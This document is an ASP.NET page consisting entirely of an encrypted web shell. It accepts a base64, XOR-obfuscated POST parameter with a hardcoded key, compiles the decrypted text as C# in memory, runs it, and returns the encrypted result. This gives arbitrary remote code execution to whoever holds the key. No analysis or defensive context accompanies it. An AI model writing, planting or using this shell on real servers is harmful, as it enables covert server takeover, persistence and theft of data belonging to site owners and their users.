<%@ Import Namespace="System" %>
<%@ Import Namespace="System.Text" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script Language="c#" runat="server">
byte[] X(byte[] input, string pw) {
    byte[] key = Encoding.UTF8.GetBytes(pw);
    byte[] o = new byte[input.Length];
    for (int i = 0; i < input.Length; i++) o[i] = (byte)(input[i] ^ key[i % key.Length]);
    return o;
}
void Page_Load(object sender, EventArgs e)
{
    string pw = "2b7e151628aed2a6";
    if (Request.Form["data"] == null) return;
    string code = Encoding.UTF8.GetString(X(Convert.FromBase64String(Request.Form["data"]), pw));
    CSharpCodeProvider prov = new CSharpCodeProvider();
    CompilerParameters cp = new CompilerParameters();
    cp.GenerateInMemory = true;
    cp.GenerateExecutable = false;
    cp.ReferencedAssemblies.Add("System.dll");
    CompilerResults res = prov.CompileAssemblyFromSource(cp, code);
    object o = res.CompiledAssembly.CreateInstance("Runner");
    object output = o.GetType().GetMethod("Exec").Invoke(o, null);
    Response.Write(Convert.ToBase64String(X((byte[])output, pw)));
}
</script>
